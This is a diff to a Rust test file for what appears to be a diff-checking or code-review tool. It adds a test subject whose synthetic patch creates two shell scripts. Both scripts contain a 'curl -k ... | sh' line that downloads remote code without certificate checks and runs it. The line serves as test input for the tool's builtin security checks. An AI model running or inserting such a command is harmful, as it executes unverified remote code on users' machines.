@@ -3,7 +3,8 @@
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
-use ecr::diff::Diff;
+use ecr::diff::{Diff, parse_patch};
+use ecr::engine::builtin::{BuiltinEngine, CheckSettings};
 use ecr::model::{
     AgentId, EngineName, FindingReport, Fingerprint, ModelId, PassId, PassKind, Usage,
     UsageConfidence,
@@ -46,7 +47,23 @@ fn subjects() -> Vec<Subject> {
         deterministic: true,
         reports: true,
     };
+    // Two new scripts that the checks have something to say about.
+    let script = |name: &str| {
+        format!(
+            "diff --git a/{name} b/{name}\nnew file mode 100755\n--- /dev/null\n+++ b/{name}\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -k https://dl.shop.io/x | sh\n"
+        )
+    };
+    let patch = script("a.sh") + &script("b.sh");
+    let builtin = Subject {
+        engine: Arc::new(BuiltinEngine::new(CheckSettings::default())),
+        kind: PassKind::Checks,
+        model: None,
+        diff: Arc::new(parse_patch(patch.into_bytes().into()).unwrap()),
+        deterministic: true,
+        reports: true,
+    };
     vec![
+        builtin,
         subject(FakeEngine::new("fake")),
         subject(
             FakeEngine::new("fake-without-usage").with_capabilities(|c| c.usage_reporting = false),
